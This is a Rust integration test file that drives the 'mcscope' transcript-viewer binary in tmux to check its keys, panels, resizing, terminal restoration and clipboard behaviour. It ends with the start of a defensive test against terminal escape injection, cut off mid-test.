//! The real `mcscope` binary in a real terminal: tmux runs an interactive bash, the tests
//! type commands and keys into it with `send-keys` and read the screen with `capture-pane`.
//!
//! Each test has its own tmux server (`tmux -L <unique socket>`), so they run in parallel,
//! and a Drop guard kills that server even when an assertion fails. The screen is polled
//! (every 50 ms, up to 5 s) for the text a step expects; there are no fixed sleeps.
//!
//! When `tmux` is not on PATH the tests print a note and pass, unless
//! `MCSCOPE_REQUIRE_TMUX=1`, in which case they fail.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test and bench code: a failed unwrap is a failed run

#[path = "common/corpus.rs"]
mod corpus;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

const DEMO: &str = "sample-sessions/claude-demo.jsonl";
const PROMPT: &str = "PROMPT$";
const POLL: Duration = Duration::from_millis(50);
const TIMEOUT: Duration = Duration::from_secs(5);
/// The title of the age list: on screen only while a session is shown.
const AGE_LIST: &str = "tool results by age";
/// What the terminal receives when a program switches to the alternate screen.
const ENTER_ALT_SCREEN: &str = "\x1b[?1049h";
const LEAVE_ALT_SCREEN: &str = "\x1b[?1049l";

fn manifest() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// True when tmux can be run; otherwise a note (or a panic under `MCSCOPE_REQUIRE_TMUX=1`).
fn have_tmux() -> bool {
    match Command::new("tmux").arg("-V").output() {
        Ok(o) if o.status.success() => true,
        other => {
            if std::env::var("MCSCOPE_REQUIRE_TMUX").as_deref() == Ok("1") {
                panic!("tmux not found (MCSCOPE_REQUIRE_TMUX=1): {other:?}");
            }
            eprintln!("tmux not found, skipping");
            false
        }
    }
}

/// One tmux server with one session running an interactive bash whose prompt is `PROMPT$ `.
/// Dropping it kills the server.
struct Tmux {
    socket: String,
    session: String,
    /// Everything the pane's programs wrote, raw (`pipe-pane`), for escape sequences.
    log: PathBuf,
    /// The server's socket file, removed after the server is killed.
    socket_path: Option<PathBuf>,
    _dir: tempfile::TempDir,
}

impl Tmux {
    /// Starts the server at `width`x`height` in CARGO_MANIFEST_DIR, with the binary's
    /// directory first on PATH, and waits for the prompt. None when tmux is missing.
    fn start(test: &str, width: u16, height: u16) -> Option<Tmux> {
        if !have_tmux() {
            return None;
        }
        let bin = PathBuf::from(env!("CARGO_BIN_EXE_mcscope"));
        let bin_dir = bin.parent().expect("the binary has a directory");
        let path = match std::env::var_os("PATH") {
            Some(p) => {
                let mut dirs = vec![bin_dir.to_path_buf()];
                dirs.extend(std::env::split_paths(&p));
                std::env::join_paths(dirs).expect("PATH joins")
            }
            None => bin_dir.as_os_str().to_owned(),
        };
        let dir = tempfile::tempdir().expect("temp dir");
        let mut t = Tmux {
            socket: format!("mcscope-{}-{test}", std::process::id()),
            session: test.to_string(),
            log: dir.path().join("pane.log"),
            socket_path: None,
            _dir: dir,
        };
        // The first command starts the server: its environment is the panes' environment.
        let out = Command::new("tmux")
            .args(["-f", "/dev/null", "-u", "-L", &t.socket])
            .args(["new-session", "-d", "-s", &t.session])
            .args(["-x", &width.to_string(), "-y", &height.to_string()])
            .arg("-c")
            .arg(manifest())
            .arg("bash --norc --noprofile")
            .current_dir(manifest())
            .env("PATH", path)
            .env("INPUTRC", "/dev/null")
            // The shell's history goes to the test's own folder, never a device.
            .env("HISTFILE", t.log.with_file_name("history"))
            .env_remove("TMUX")
            .env_remove("TMUX_PANE")
            .env_remove("PROMPT_COMMAND")
            .env_remove("RUST_BACKTRACE")
            .output()
            .expect("run tmux new-session");
        assert!(
            out.status.success(),
            "tmux new-session failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        // From here on the guard exists, so the server dies whatever happens.
        t.socket_path = Some(PathBuf::from(t.format("#{socket_path}")));
        t.type_line("HISTFILE=/dev/null PS1='PROMPT$ '");
        t.wait_prompt();
        let log = t.log.display().to_string();
        assert!(!log.contains('\''), "temp path with a quote: {log}");
        t.tmux(&[
            "pipe-pane",
            "-t",
            &t.session,
            "-o",
            &format!("cat >> '{log}'"),
        ]);
        Some(t)
    }

    fn tmux(&self, args: &[&str]) -> Output {
        let out = Command::new("tmux")
            .args(["-f", "/dev/null", "-u", "-L", &self.socket])
            .args(args)
            .env_remove("TMUX")
            .output()
            .unwrap_or_else(|e| panic!("tmux {args:?}: {e}"));
        assert!(
            out.status.success(),
            "tmux {args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    /// One key, by tmux name (`Left`, `Escape`, `Enter`) or a single character.
    fn key(&self, key: &str) {
        self.tmux(&["send-keys", "-t", &self.session, key]);
    }

    /// Literal text, then Enter (two send-keys calls).
    fn type_line(&self, text: &str) {
        self.tmux(&["send-keys", "-t", &self.session, "-l", text]);
        self.key("Enter");
    }

    fn capture(&self) -> Vec<String> {
        let out = self.tmux(&["capture-pane", "-p", "-t", &self.session]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| l.trim_end().to_string())
            .collect()
    }

    /// A tmux format for the pane, e.g. `#{alternate_on}`.
    fn format(&self, f: &str) -> String {
        let out = self.tmux(&["display-message", "-p", "-t", &self.session, f]);
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    /// Polls the screen until `ok` holds; Err with the last screen after TIMEOUT.
    fn try_wait(&self, what: &str, ok: impl Fn(&[String]) -> bool) -> Result<Vec<String>, String> {
        let start = Instant::now();
        loop {
            let screen = self.capture();
            if ok(&screen) {
                return Ok(screen);
            }
            if start.elapsed() > TIMEOUT {
                return Err(format!(
                    "timed out after {TIMEOUT:?} waiting for {what}; the screen:\n{}",
                    screen.join("\n")
                ));
            }
            std::thread::sleep(POLL);
        }
    }

    fn wait(&self, what: &str, ok: impl Fn(&[String]) -> bool) -> Vec<String> {
        self.try_wait(what, ok).unwrap_or_else(|e| panic!("{e}"))
    }

    fn wait_text(&self, needle: &str) -> Vec<String> {
        self.wait(&format!("{needle:?} on screen"), |s| has(s, needle))
    }

    /// Waits for a session screen whose header says `request {want}`.
    fn wait_header(&self, want: &str) -> Vec<String> {
        let needle = format!("request {want}");
        self.wait(
            &format!("a session screen with {needle:?} in its header"),
            |s| header(s).is_some_and(|h| has(h, &needle)),
        )
    }

    /// Waits for the shell: the last non-empty line is a bare prompt.
    fn wait_prompt(&self) -> Vec<String> {
        self.wait("the shell prompt", |s| {
            s.iter().rev().find(|l| !l.is_empty()).map(String::as_str) == Some(PROMPT)
        })
    }

    /// Waits for a line that is exactly `line`.
    fn wait_line(&self, line: &str) -> Vec<String> {
        self.wait(&format!("a line {line:?}"), |s| s.iter().any(|l| l == line))
    }

    /// The raw pane output logged so far.
    fn log(&self) -> String {
        String::from_utf8_lossy(&std::fs::read(&self.log).unwrap_or_default()).into_owned()
    }

    /// Polls the pane log until it contains `needle`.
    fn wait_log(&self, needle: &str) -> String {
        let start = Instant::now();
        loop {
            let log = self.log();
            if log.contains(needle) {
                return log;
            }
            assert!(
                start.elapsed() <= TIMEOUT,
                "timed out after {TIMEOUT:?} waiting for {needle:?} in the pane log: {log:?}"
            );
            std::thread::sleep(POLL);
        }
    }

    /// After the app has exited: the shell is back, on the normal screen, and the
    /// terminal is usable (echo works, not in raw mode, no mouse reporting, cursor shown).
    fn assert_shell_back(&self) {
        let screen = self.wait_prompt();
        assert!(
            !has(&screen, AGE_LIST),
            "the app's screen is still shown after exit:\n{}",
            screen.join("\n")
        );
        assert_eq!(
            self.format("#{alternate_on}"),
            "0",
            "still on the alternate screen"
        );
        assert_eq!(
            self.format("#{mouse_any_flag}"),
            "0",
            "mouse reporting left on"
        );
        assert_eq!(self.format("#{cursor_flag}"), "1", "cursor left hidden");
        self.type_line("echo alive");
        self.wait_line("alive");
        // bash keeps the tty modes a job leaves behind, so this sees what mcscope restored.
        self.type_line(
            "stty -a | grep -Eq -- '(^| )-(icanon|isig|opost)( |;|$)' && echo tty=raw || echo tty=cooked",
        );
        let screen = self.wait("the stty verdict", |s| {
            s.iter().any(|l| l == "tty=cooked" || l == "tty=raw")
        });
        assert!(
            screen.iter().any(|l| l == "tty=cooked"),
            "the terminal was left in raw mode:\n{}",
            screen.join("\n")
        );
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .args(["-L", &self.socket, "kill-server"])
            .env_remove("TMUX")
            .output();
        if let Some(p) = &self.socket_path {
            let _ = std::fs::remove_file(p);
        }
    }
}

fn has(screen: &[String], needle: &str) -> bool {
    screen.iter().any(|l| l.contains(needle))
}

/// The header of a session screen: the lines above the age list's title.
fn header(screen: &[String]) -> Option<&[String]> {
    let end = screen.iter().position(|l| l.contains(AGE_LIST))?;
    Some(&screen[..end])
}

/// The age list's rows: from its title to the diff's title.
fn age_rows(screen: &[String]) -> &[String] {
    let start = screen
        .iter()
        .position(|l| l.contains(AGE_LIST))
        .unwrap_or_else(|| panic!("no age list:\n{}", screen.join("\n")));
    let end = screen
        .iter()
        .position(|l| l.contains("local request (left)"))
        .unwrap_or(screen.len());
    &screen[start + 1..end.max(start + 1)]
}

fn row<'a>(rows: &'a [String], needle: &str) -> &'a str {
    rows.iter()
        .find(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("no row with {needle:?}:\n{}", rows.join("\n")))
}

/// `request N/M` somewhere in the line, as (N, M).
fn request_of(line: &str) -> Option<(u32, u32)> {
    line.match_indices("request ").find_map(|(i, m)| {
        let rest = &line[i + m.len()..];
        let (n, rest) = rest.split_once('/')?;
        let m: String = rest.chars().take_while(char::is_ascii_digit).collect();
        Some((n.parse().ok()?, m.parse().ok()?))
    })
}

#[test]
fn demo_session_keys_and_a_clean_exit() {
    let Some(t) = Tmux::start("keys", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count"));
    let s = t.wait_header("6/6");
    let head = header(&s).unwrap();
    assert!(
        head[0].contains("claude-demo.jsonl") && head[0].contains("request 6/6"),
        "header: {head:?}"
    );
    let rows = age_rows(&s);
    assert!(row(rows, "toolu_A").contains("cleared"), "{rows:?}");
    let d = row(rows, "toolu_D");
    assert!(d.contains("kept") && !d.contains("cleared"), "{rows:?}");
    // The pane log sees the switch (the missing-file test relies on that).
    t.wait_log(ENTER_ALT_SCREEN);

    t.key("Left");
    t.wait_header("5/6");
    t.key("End");
    t.wait_header("6/6");

    // d: the delivery flips from the sidecar's cache-edits and is marked as changed.
    t.key("d");
    t.wait("\"rewrite*\" in the header", |s| {
        header(s).is_some_and(|h| has(h, "rewrite*"))
    });
    // p: count → budget → recorded → auto → idle (the cycle is auto → idle →
    // idle-server → forced → size → count → budget → recorded, SPEC §15.3).
    for want in ["plan budget*", "plan recorded*", "plan auto*", "plan idle*"] {
        t.key("p");
        t.wait(&format!("{want:?} in the header"), |s| {
            header(s).is_some_and(|h| has(h, want))
        });
    }

    t.key("Enter");
    t.wait_text("first vanished from the wire at request");
    t.key("Escape");
    t.wait("the explain panel to close", |s| {
        !has(s, "first vanished from the wire") && has(s, AGE_LIST)
    });

    // The help panel's title says "any key closes": use a key bound to nothing.
    let mut failures = Vec::new();
    t.key("?");
    t.wait_text("previous request");
    t.key("x");
    if let Err(e) = t.try_wait("the help panel to close on an unbound key (x)", |s| {
        !has(s, "previous request") && has(s, AGE_LIST)
    }) {
        failures.push(e);
        // Close it the way that works, to check the rest.
        t.key("Escape");
        t.wait("the help panel to close on Escape", |s| {
            !has(s, "previous request") && has(s, AGE_LIST)
        });
    }

    t.key("q");
    t.assert_shell_back();
    let log = t.wait_log(LEAVE_ALT_SCREEN);
    let (entered, left) = (log.rfind(ENTER_ALT_SCREEN), log.rfind(LEAVE_ALT_SCREEN));
    assert!(
        entered.is_some() && left > entered,
        "the alternate screen was not left after it was entered"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn too_small_terminal_and_resize() {
    let Some(t) = Tmux::start("resize", 80, 24) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count"));
    let s = t.wait_header("6/6");
    assert!(!has(&s, "terminal too small"), "{}", s.join("\n"));

    t.tmux(&["resize-window", "-t", &t.session, "-x", "50", "-y", "12"]);
    let s = t.wait_text("terminal too small");
    assert!(has(&s, "terminal too small: 50x12"), "{}", s.join("\n"));
    assert!(!has(&s, AGE_LIST), "{}", s.join("\n"));

    t.tmux(&["resize-window", "-t", &t.session, "-x", "100", "-y", "30"]);
    let s = t.wait("request 6/6 with its age list", |s| {
        header(s).is_some_and(|h| has(h, "request 6/6")) && has(s, "toolu_D")
    });
    assert!(!has(&s, "terminal too small"), "{}", s.join("\n"));

    // Esc with no panel open and no session list behind: nothing (q quits).
    t.key("Escape");
    // Apart from the next key: an Esc read together with the Left that follows
    // would be one Alt+Left sequence to the terminal parser.
    std::thread::sleep(std::time::Duration::from_millis(300));
    t.key("Left");
    t.wait_header("5/6");
    t.key("q");
    t.assert_shell_back();
}

#[test]
fn directory_picker_opens_a_session_and_comes_back() {
    let Some(t) = Tmux::start("picker", 120, 40) else {
        return;
    };
    t.type_line("mcscope sample-sessions");
    t.wait_text("newest first");
    // The demo's row, once the background scan has read it: its first prompt.
    let s = t.wait_text("Does src/config.ts hard-code the port");
    assert!(
        s.iter()
            .any(|l| l.contains("/home/dev/shop") && l.contains("Does src/config.ts")),
        "claude-demo.jsonl not listed with its project:\n{}",
        s.join("\n")
    );

    t.key("Enter");
    let s = t.wait("a session screen with a request N/N header", |s| {
        header(s).is_some_and(|h| h.iter().any(|l| request_of(l).is_some_and(|(n, m)| n == m)))
    });
    assert!(!has(&s, "newest first"), "{}", s.join("\n"));

    t.key("Escape");
    let s = t.wait_text("newest first");
    assert!(!has(&s, AGE_LIST), "{}", s.join("\n"));

    t.key("q");
    t.assert_shell_back();
}

/// The picker's fuzzy filter in the real binary: `/`, then each typed key narrows the
/// rows at once; Enter opens the match, Esc comes back to the filtered list, and Esc
/// again clears the filter.
#[test]
fn typing_a_filter_in_the_picker_narrows_the_rows_as_you_type() {
    let Some(t) = Tmux::start("pickfilter", 100, 30) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let proj = dir.path().join("-srv-work-app");
    std::fs::create_dir_all(&proj).unwrap();
    for (name, prompt) in [
        ("a.jsonl", "Rename the zebra module"),
        ("b.jsonl", "Fix the flaky login test"),
        ("c.jsonl", "Write the release notes"),
    ] {
        let text = format!(
            "{{\"type\":\"user\",\"message\":{{\"role\":\"user\",\"content\":\"{prompt}\"}}}}\n\
             {{\"type\":\"assistant\",\"message\":{{\"id\":\"m1\",\"role\":\"assistant\",\"content\":[{{\"type\":\"text\",\"text\":\"ok\"}}]}}}}\n"
        );
        std::fs::write(proj.join(name), text).unwrap();
    }
    let path = dir.path().display().to_string();
    assert!(!path.contains('\''), "temp path with a quote: {path}");
    t.type_line(&format!("mcscope '{path}'"));
    // The picker fills its rows as its background pass reads the files: all
    // three are waited for (one on screen did not mean the others were yet,
    // under a loaded machine).
    let rows = [
        "Write the release notes",
        "Rename the zebra module",
        "Fix the flaky login test",
    ];
    t.wait("the three sessions listed", |s| {
        rows.iter().all(|r| has(s, r))
    });

    t.key("/");
    t.wait_text("filter: ▏");
    // Each key narrows the list as it is typed: "zeb" already leaves one row.
    for k in ["z", "e", "b"] {
        t.key(k);
    }
    let s = t.wait_text("filter: zeb▏  1 of 3");
    assert!(has(&s, "Rename the zebra module"), "{}", s.join("\n"));
    assert!(
        !has(&s, "Fix the flaky login test") && !has(&s, "Write the release notes"),
        "{}",
        s.join("\n")
    );
    // Backspace widens it again ("ze" still only matches the zebra).
    t.key("BSpace");
    t.wait_text("filter: ze▏");

    // Enter opens the match; Esc comes back to the picker, the filter kept.
    t.key("Enter");
    t.wait("the session screen", |s| header(s).is_some());
    t.key("Escape");
    let s = t.wait_text("filter: ze (1 of 3, Esc clears)");
    assert!(!has(&s, "Write the release notes"), "{}", s.join("\n"));
    t.key("Escape");
    let s = t.wait_text("Write the release notes");
    assert!(has(&s, "Fix the flaky login test") && !has(&s, "filter:"));

    t.key("q");
    t.assert_shell_back();
}

#[test]
fn missing_file_is_one_error_line_and_exit_2_without_touching_the_screen() {
    let Some(t) = Tmux::start("missing", 120, 40) else {
        return;
    };
    t.type_line("mcscope sample-sessions/nope.jsonl; echo \"rc=$?\"");
    let s = t.wait_line("rc=2");
    let rc = s.iter().position(|l| l == "rc=2").unwrap();
    let typed = s
        .iter()
        .position(|l| l.starts_with(PROMPT) && l.contains("nope.jsonl; echo"))
        .unwrap_or_else(|| panic!("the command line is not on screen:\n{}", s.join("\n")));
    let output = &s[typed + 1..rc];
    assert!(
        output.len() == 1
            && output[0].starts_with("mcscope: ")
            && output[0].contains("sample-sessions/nope.jsonl"),
        "want one error line naming the path, got {output:?}"
    );
    t.wait_prompt();
    let log = t.wait_log("rc=2");
    assert!(
        !log.contains(ENTER_ALT_SCREEN) && !log.contains("\x1b[?1000h"),
        "the screen was switched (alternate screen or mouse reporting): {log:?}"
    );
    t.assert_shell_back();
}

#[test]
fn a_panic_restores_the_terminal_and_the_message_is_readable() {
    if !cfg!(debug_assertions) {
        return; // the trigger exists only in debug builds
    }
    let Some(t) = Tmux::start("panic", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    t.key("F12");
    // The message reaches the (restored) main screen, not the alternate one.
    t.wait_log("debug panic trigger (F12)");
    t.assert_shell_back();
    let screen = t.capture();
    assert!(
        has(&screen, "debug panic trigger (F12)"),
        "the message is readable on the screen: {screen:?}"
    );
}

#[test]
fn ctrl_c_quits_and_ctrl_z_suspends_until_fg() {
    let Some(t) = Tmux::start("jobs", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    t.key("C-z");
    // The shell is back with the job stopped, the terminal usable.
    let s = t.wait_text("Stopped");
    assert!(!has(&s, AGE_LIST), "suspended but still drawn: {s:?}");
    t.assert_shell_back();
    t.type_line("fg");
    t.wait_header("6/6");
    t.key("Left");
    t.wait_header("5/6");
    t.key("C-c");
    t.assert_shell_back();
}

/// At 80×24 the help scrolls (↓ and PgDn) to its last line; Esc and q close it; Esc at
/// the top level keeps the program running; `:3` jumps; `--at` applies.
#[test]
fn at_80x24_help_scrolls_to_the_end_esc_never_quits_and_the_command_line_jumps() {
    let Some(t) = Tmux::start("keys80", 80, 24) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count --at 4"));
    t.wait_header("4/6");
    t.key("?");
    t.wait_text("previous request");
    // The legend's last line, reached by scrolling.
    let last = mcscope::tui::keymap::help_lines()
        .last()
        .unwrap()
        .trim()
        .to_string();
    // One ↓ per line of the help is enough to reach its end, however slowly the
    // keys are taken on a loaded machine; then the last line must show.
    for _ in 0..mcscope::tui::keymap::help_lines().len() {
        t.key("Down");
    }
    t.wait_text(&last);
    for needle in ["▲ a plan fired", "✕ the simulated cache prefix broke"] {
        t.key("g");
        t.wait_text("previous request");
        t.key("PageDown");
        let mut found = false;
        for _ in 0..10 {
            if has(&t.capture(), needle) {
                found = true;
                break;
            }
            t.key("PageDown");
        }
        assert!(found, "{needle:?} not reached with PgDn");
    }
    // q closes the help, it does not quit.
    t.key("q");
    t.wait("the help to close", |s| {
        !has(s, "previous request") && has(s, AGE_LIST)
    });
    // Esc at the top level: still running (the next key apart from it, or the
    // terminal parser reads Esc and ':' as one Alt+: key).
    t.key("Escape");
    std::thread::sleep(std::time::Duration::from_millis(300));
    t.key(":");
    t.wait_text(":▏");
    t.type_line("2");
    t.wait_header("2/6");
    t.key(":");
    t.wait_text(":▏");
    t.type_line("gap soon");
    t.wait_text("expected minutes");
    t.key("q");
    t.assert_shell_back();
}

#[test]
fn off_a_terminal_the_tui_prints_one_line_and_exits_2() {
    let Some(t) = Tmux::start("notty", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} </dev/null; echo \"rc=$?\""));
    let s = t.wait_line("rc=2");
    assert!(
        s.iter()
            .any(|l| l.starts_with("mcscope: not a terminal: use `mcscope plan`")),
        "{}",
        s.join("\n")
    );
    t.type_line(&format!(
        "mcscope {DEMO} | head -3; echo \"rc=${{PIPESTATUS[0]}}\""
    ));
    t.wait("the second rc=2", |s| {
        s.iter().filter(|l| *l == "rc=2").count() == 2
    });
    let log = t.log();
    assert!(
        !log.contains(ENTER_ALT_SCREEN),
        "the screen was switched: {log:?}"
    );
    t.assert_shell_back();
}

#[test]
fn no_mouse_leaves_the_mouse_to_the_terminal() {
    let Some(t) = Tmux::start("nomouse", 100, 30) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    assert_eq!(t.format("#{mouse_any_flag}"), "1", "captured by default");
    t.key("q");
    t.assert_shell_back();
    t.type_line(&format!("mcscope {DEMO} --no-mouse"));
    t.wait_header("6/6");
    assert_eq!(
        t.format("#{mouse_any_flag}"),
        "0",
        "--no-mouse: not captured"
    );
    t.key("q");
    t.assert_shell_back();
    // The config file's `mouse = false` does the same (SPEC §8).
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "mouse = false\n").unwrap();
    t.type_line(&format!(
        "MCSCOPE_CONFIG={} mcscope {DEMO}",
        config.display()
    ));
    t.wait_header("6/6");
    assert_eq!(
        t.format("#{mouse_any_flag}"),
        "0",
        "mouse = false in the config: not captured"
    );
    t.key("q");
    t.assert_shell_back();
}

#[test]
fn y_puts_the_selected_id_in_tmux_s_buffer() {
    let Some(t) = Tmux::start("copy", 120, 40) else {
        return;
    };
    t.tmux(&["set-option", "-s", "set-clipboard", "on"]);
    t.type_line(&format!("mcscope {DEMO} --policy idle"));
    t.wait_header("6/6");
    t.key("Down");
    t.key("y");
    t.wait_text("copied toolu_B");
    let start = Instant::now();
    loop {
        let out = Command::new("tmux")
            .args(["-f", "/dev/null", "-u", "-L", &t.socket, "show-buffer"])
            .env_remove("TMUX")
            .output()
            .unwrap();
        if String::from_utf8_lossy(&out.stdout) == "toolu_B" {
            break;
        }
        assert!(
            start.elapsed() < TIMEOUT,
            "tmux's buffer: {:?} {:?}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        std::thread::sleep(POLL);
    }
    t.key("q");
    t.assert_shell_back();
}

/// At 80×24 and 200×50 the footer's cache verdict is on screen; after `f` a file
/// that grows is followed (the header counts the new requests).
#[test]
fn the_verdict_shows_at_both_sizes_and_f_follows_a_growing_file() {
    let dir = tempfile::tempdir().unwrap();
    let src = std::fs::read_to_string(manifest().join(DEMO)).unwrap();
    let lines: Vec<&str> = src.lines().collect();
    let live = dir.path().join("live.jsonl");
    // All but the last prompt and its answer: 5 requests of 6.
    let cut = lines.len() - 2;
    std::fs::write(&live, lines[..cut].join("\n") + "\n").unwrap();
    for (w, h) in [(80, 24), (200, 50)] {
        let Some(t) = Tmux::start(&format!("verdict{w}"), w, h) else {
            return;
        };
        t.type_line(&format!(
            "mcscope {} --policy idle --keep-recent 2",
            live.display()
        ));
        // The whole screen, footer included (a capture can catch a frame half drawn).
        t.wait("request 5/5 with the cache verdict in the footer", |s| {
            header(s).is_some_and(|h| has(h, "request 5/5"))
                && s.iter().any(|l| l.starts_with("✓ cache prefix kept"))
        });
        t.key("f");
        t.wait_text("following");
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(&live)
            .unwrap();
        use std::io::Write;
        writeln!(f, "{}", lines[cut..].join("\n")).unwrap();
        drop(f);
        // Followed from the last request: the view moves to the new last one
        // (`tail -f`). Request 6 comes after a 75.5-minute gap: idle clears,
        // the prefix breaks.
        let s = t.wait_header("6/6");
        let verdict = t.wait("the broken verdict", |s| {
            s.iter()
                .any(|l| l.starts_with("✕ cache prefix broken at message"))
        });
        assert!(!verdict.is_empty(), "{}", s.join("\n"));
        t.key("q");
        t.assert_shell_back();
        std::fs::write(&live, lines[..cut].join("\n") + "\n").unwrap();
    }
}

/// The footer's line of marks (`marks    ` and a glyph per column).
fn marks_line(screen: &[String]) -> Option<&String> {
    screen.iter().find(|l| l.starts_with("marks "))
}

#[test]
fn r_jumps_to_the_budget_record_and_the_explain_panel_shows_it() {
    let Some(t) = Tmux::start("evidence", 120, 40) else {
        return;
    };
    t.type_line("mcscope sample-sessions/claude-budget.jsonl --at 1");
    t.wait_header("1/10");
    // The evidence arrives from the background: request 7 holds a record and
    // an observed break, so `!` (first of `! ✕ ◇ ^ ▲`) under request 7, in
    // the 7th cell after the 9-column label (one column each).
    let s = t.wait("the ! mark", |s| {
        marks_line(s).is_some_and(|l| l.contains('!'))
    });
    let marks = marks_line(&s).unwrap();
    assert_eq!(
        marks.chars().skip(9).position(|c| c == '!'),
        Some(6),
        "{marks:?}"
    );
    // r: the next request with evidence, 7, where a break was observed too.
    t.key("r");
    t.wait_header("7/10");
    // The evidence is computed in the background: wait for its line.
    t.wait_text("! observed cache break: read 30,000 of 138,300 expected (drop 108,300)");
    // Enter on the first result (toolu_…d3PBLK, the oldest, cleared by budget): the
    // record that names it.
    t.key("g");
    t.key("Enter");
    // The whole panel (a capture can catch it half drawn).
    t.wait(
        "the record, its figures and its comparison in the panel",
        |s| {
            has(
                s,
                "◇ microcompact_boundary at line 19 (budget writer) belongs to request 7",
            ) && has(s, "pre_tokens 122,000  tokens_saved 62,000")
                && has(s, "against the budget plan: agrees")
        },
    );
    t.key("Escape");
    t.wait("the panel to close", |s| !has(s, "◇ microcompact_boundary"));
    // R from 7: nothing earlier holds evidence.
    t.key("R");
    t.wait_text("no earlier request where the transcript holds evidence");
    t.key("q");
    t.assert_shell_back();
}

/// The real budget record of the corpus (Claude Code 2.1.17, line 343, request 48).
#[test]
fn on_the_corpus_r_reaches_the_real_budget_record() {
    let Some(corpus) = corpus::file("claude-code/entireio__cli__38-ecf75f2f1d-0-full.jsonl") else {
        return;
    };
    let Some(t) = Tmux::start("corpusev", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {} --at 1", corpus.display()));
    t.wait_header("1/142");
    t.wait("the evidence marks", |s| {
        marks_line(s).is_some_and(|l| l.contains('◇') || l.contains('!'))
    });
    t.key("r");
    t.wait_header("48/142");
    t.key(":");
    t.wait_text(":▏");
    t.type_line("explain toolu_01Fj8LHRfhQzYgx2JqnZRRdo");
    // Both lines in one wait: a capture can fall in the middle of a frame.
    t.wait("the record and its figures in the explain panel", |s| {
        has(
            s,
            "◇ microcompact_boundary at line 343 (budget writer) belongs to request 48",
        ) && has(s, "pre_tokens 65,398  tokens_saved 45,149")
    });
    t.key("q");
    t.wait("the panel to close", |s| !has(s, "◇ microcompact_boundary"));
    t.key("q");
    t.assert_shell_back();
}

#[test]
fn the_api_preset_shows_the_server_view_and_plus_tunes_its_keep() {
    let Some(t) = Tmux::start("api", 160, 45) else {
        return;
    };
    // The sample's sidecar selects the api preset (SPEC §11).
    t.type_line("mcscope sample-sessions/api-agent.json");
    let s = t.wait_header("28/28");
    let head = header(&s).unwrap();
    assert!(
        has(head, "plan api (api)") && has(head, "keep 5ˢ"),
        "header: {head:?}"
    );
    t.wait_text("server view after the edits (right)");
    t.wait_text("[Old tool result content cleared]");
    t.key("+");
    t.wait("\"keep 6*\" in the header", |s| {
        header(s).is_some_and(|h| has(h, "keep 6*"))
    });
    // p: api → recorded → api (SPEC §15.3; its status line: tests/tui_api.rs).
    // Each step waits for its own header: the api header is already on the
    // screen before the first p, so waiting for it there passed only when the
    // capture came before the redraw.
    t.key("p");
    t.wait("the recorded plan in the header", |s| {
        header(s).is_some_and(|h| has(h, "plan recorded"))
    });
    t.key("p");
    t.wait("the api plan back in the header", |s| {
        header(s).is_some_and(|h| has(h, "plan api (api)") && has(h, "keep 6*"))
    });
    t.key("q");
    t.assert_shell_back();
}

/// The compare panel in the real binary: `c` opens it (the rows of `mcscope
/// compare`, computed in the background), ↓ and Enter apply a row, and the
/// header shows the new values marked as changed.
#[test]
fn c_opens_the_compare_panel_and_enter_applies_a_row_to_the_header() {
    let Some(t) = Tmux::start("compare", 140, 50) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count"));
    let s = t.wait_header("6/6");
    assert!(has(header(&s).unwrap(), "plan count"), "{s:?}");
    t.key("c");
    // Row 0 is the baseline (SPEC §9a), row 1 the recommended one on the demo;
    // row 7 is idle keep 2 gap 5m.
    let s = t.wait_text("recommended: row 1 (claude idle keep 1 gap 5m)");
    assert!(has(&s, "98 settings"), "{}", s.join("\n"));
    assert!(has(&s, "recorded: what happened"), "{}", s.join("\n"));
    assert!(has(&s, "claude idle keep 2 gap 5m"), "{}", s.join("\n"));
    for _ in 0..7 {
        t.key("Down");
    }
    t.key("Enter");
    // The whole frame: the header's new values, the status line, the panel gone.
    let s = t.wait(
        "the applied setting in the header and the status line",
        |s| {
            header(s).is_some_and(|h| has(h, "plan idle*") && has(h, "gap ≥ 5 min*"))
                && has(s, "applied compare row 7")
                && !has(s, "recommended: row 1")
        },
    );
    let head = header(&s).unwrap().join("\n");
    assert!(head.contains("keep 2"), "{head}");
    t.key("q");
    t.assert_shell_back();
}

/// A hostile transcript (tests/fixtures/escapes: OSC 0 title, OSC 52 clipboard,
/// CSI clear screen, a C1 CSI, a newline in an id) through the real binary in a
/// real terminal: the text commands and the TUI at 80×24 leave the pane's title
/// and tmux's clipboard alone, and `y` copies the id as shown, on one line.
#[test]
fn a_hostile_transcript_never_reaches_the_terminal_or_the_clipboard() {
    const FIXTURE: &str = "tests/fixtures/escapes/escapes.jsonl";
    let Some(t) = Tmux::start("hostile", 80, 24) else {
        return;
    };
    t.tmux(&["set-option", "-s", "set-clipboard", "on"]);
    let title_before = t.format("#{pane_title}");
    for cmd in ["plan", "timeline", "evidence", "compare"] {
        t.type_line(&format!(
            "mcscope {cmd} {FIXTURE} --policy idle; echo done-{cmd}"
        ));
